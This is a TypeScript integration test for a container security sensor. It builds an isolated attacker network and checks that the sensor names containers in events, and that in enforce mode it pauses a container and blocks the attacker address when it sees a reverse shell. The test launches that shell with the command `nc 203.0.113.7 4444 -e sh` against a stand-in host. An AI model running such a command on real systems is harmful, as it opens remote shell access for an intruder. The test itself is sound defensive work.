// The whole way, with a real engine: an event in a container names it; an attack in a container ends with the
// container paused and the attacker's address blocked; both are undone.
import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { picketWith, SensorProcess } from "../sensor/process.ts";
import { type Engine, startEngine } from "./engine.ts";

let engine: Engine;
let sensor: SensorProcess | undefined;
/** A machine beside the engine's: the attacker's. */
const attacker = `pk${randomBytes(3).toString("hex")}`;
const attackerAddress = "203.0.113.7";
const gateway = "203.0.113.1";
const listening = 4444;
const published = 8080;

function ip(...args: string[]): void {
	execFileSync("ip", args);
}
/** The engine's network: firewall and routes of the host live there as far as this test is concerned. */
function inside(): string[] {
	return ["nsenter", `--net=/run/netns/${engine.namespace}`];
}

/** Can a machine at the attacker's address reach `address`? */
function reaches(address: string, port: number): Promise<boolean> {
	const script = `const s=require("node:net").connect(${port},"${address}");s.setTimeout(1500,()=>process.exit(1));
s.on("error",()=>process.exit(1)).on("connect",()=>process.exit(0));`;
	const child = spawn("ip", ["netns", "exec", attacker, process.execPath, "-e", script], { stdio: "ignore" });
	return new Promise((resolve) => child.on("close", (code) => resolve(code === 0)));
}

beforeAll(async () => {
	engine = await startEngine({ bridge: true });
	ip("netns", "add", attacker);
	ip("-n", attacker, "link", "add", "wire0", "type", "veth", "peer", "name", "attack0");
	ip("-n", attacker, "link", "set", "attack0", "netns", engine.namespace);
	ip("-n", attacker, "addr", "add", `${attackerAddress}/24`, "dev", "wire0");
	ip("-n", attacker, "link", "set", "wire0", "up");
	ip("-n", attacker, "route", "add", "default", "via", gateway);
	ip("-n", engine.namespace, "addr", "add", `${gateway}/24`, "dev", "attack0");
	ip("-n", engine.namespace, "link", "set", "attack0", "up");
});
afterAll(async () => {
	await sensor?.dispose();
	await engine?.stop();
	try {
		ip("netns", "del", attacker);
	} catch {
		// was never made
	}
});

function start(extra: { config?: string; policy?: string; args?: string[] } = {}): SensorProcess {
	sensor = new SensorProcess({
		prefix: inside(),
		config: `docker: {socket: ${engine.socketPath}}\n${extra.config ?? ""}`,
		...(extra.policy === undefined ? {} : { policy: extra.policy }),
		args: extra.args ?? [],
	});
	return sensor;
}

/** The attacker's end of a reverse shell: takes connections and says nothing. */
async function listen(): Promise<ChildProcess> {
	const script = `require("node:net").createServer((s)=>s.on("error",()=>{})).listen(${listening},"0.0.0.0",()=>console.log("ready"))`;
	const child = spawn("ip", ["netns", "exec", attacker, process.execPath, "-e", script], {
		stdio: ["ignore", "pipe", "ignore"],
	});
	await new Promise((resolve) => child.stdout.once("data", resolve));
	return child;
}

describe("an event in a container", () => {
	it("names the container, its image and its labels, also when it lives for a blink", async () => {
		const running = start({ args: ["--events", "exec,open"] });
		await running.ready();
		await running.until("the engine", () => !running.messages.includes("DOCKER_DOWN"));
		for (let round = 0; round < 5; round++) {
			const name = `blink-${randomBytes(4).toString("hex")}`;
			const begun = Date.now();
			await engine.docker("run", "--rm", "--network=none", "--name", name, engine.image, "true", name);
			const lived = Date.now() - begun;
			const { event } = await running.record(
				`exec in ${name}`,
				(record) =>
					record.event?.exec?.path === "/bin/busybox" && record.event.process?.args?.at(-1) === name,
			);
			expect(lived).toBeLessThan(10_000);
			expect(event?.container).toMatchObject({
				name,
				image: engine.image,
				runtime: "docker",
				labels: engine.labels,
			});
			expect(event?.container?.id).toMatch(/^[0-9a-f]{64}$/);
			expect(event?.process?.executable).toBe("/bin/busybox");
			expect(event?.process?.cgroup).toContain(event?.container?.id);
		}
		await running.dispose();
	});
});

const policy = `
responses:
  - when: {tactic: command-and-control, scope: container}
    do: [{block: {ttl: 10m}}, pause]
`;

describe("an attack in a container", () => {
	it("is only told in observe mode", async () => {
		const running = start({ policy });
		await running.ready();
		const name = `watched-${randomBytes(3).toString("hex")}`;
		await engine.docker("run", "-d", "--name", name, engine.image, "sleep", "60");
		const listener = await listen();
		await engine.docker("exec", "-d", name, "sh", "-c", `nc ${attackerAddress} ${listening} -e sh`);
		const { action } = await running.record(
			"what would be done",
			(record) => record.action?.kind === "KIND_PAUSE",
		);
		expect(action?.outcome).toBe("OUTCOME_WOULD_ACT");
		expect(await engine.docker("inspect", "-f", "{{.State.Paused}}", name)).toContain("false");
		listener.kill("SIGKILL");
		await engine.docker("rm", "-f", name);
		await running.dispose();
	});

	it("ends with the container paused and the attacker's address cut off, until both are released", async () => {
		const running = start({ policy, config: "mode: enforce\n" });
		await running.ready();
		const name = `victim-${randomBytes(3).toString("hex")}`;
		await engine.docker(
			"run",
			"-d",
			"-p",
			`${published}:8080`,
			"--name",
			name,
			engine.image,
			"httpd",
			"-f",
			"-p",
			"8080",
		);
		const listener = await listen();
		try {
			await waitUntil(() => reaches(gateway, published));
			await engine.docker("exec", "-d", name, "sh", "-c", `nc ${attackerAddress} ${listening} -e sh`);
			const paused = await running.record(
				"the pause",
				({ action }) => action?.kind === "KIND_PAUSE" && action.outcome !== "OUTCOME_UNCHANGED",
			);
			// An alert on an execution has no peer to block, and says so; the one on the connection has.
			const blocked = await running.record(
				"the block",
				({ action }) => action?.kind === "KIND_BLOCK" && action.target === attackerAddress,
			);
			expect(paused.action).toMatchObject({ outcome: "OUTCOME_VERIFIED", requester: "policy" });
			expect(blocked.action).toMatchObject({ outcome: "OUTCOME_VERIFIED", target: attackerAddress });
			expect(paused.action?.secondsToEffect).toBeGreaterThan(0);
			const alert = running.records.find((record) => record.alert?.id === paused.action?.alertId)?.alert;
			expect(alert?.event?.container?.name).toBe(name);
			expect(alert?.tactics).toContain("command-and-control");
			expect((await engine.docker("inspect", "-f", "{{.State.Status}}", name)).trim()).toBe("paused");

			// Frozen or not, nothing from that address gets through: shown with the container running again.
			const resumed = await picketWith([], "resume", name, "--socket", running.socket);
			expect(resumed.status, resumed.out + resumed.err).toBe(0);
			expect((await engine.docker("inspect", "-f", "{{.State.Status}}", name)).trim()).toBe("running");
			expect(await reaches(gateway, published)).toBe(false);

			const released = await picketWith([], "unblock", attackerAddress, "--socket", running.socket);
			expect(released.status, released.out + released.err).toBe(0);
			expect(await reaches(gateway, published)).toBe(true);
		} finally {
			listener.kill("SIGKILL");
			await engine.docker("rm", "-f", name);
		}
		expect(await running.interrupt()).toBe(0);
		expect(running.messages).toContain("nothing left attached or blocked");
		const rules = execFileSync("nsenter", [`--net=/run/netns/${engine.namespace}`, "iptables-save"], {
			encoding: "utf8",
		});
		expect(rules).not.toContain("PICKET");
	});
});

async function waitUntil(condition: () => Promise<boolean>): Promise<void> {
	const end = Date.now() + 15_000;
	while (!(await condition())) {
		if (Date.now() > end) throw new Error("the container's web server was never reachable");
	}
}
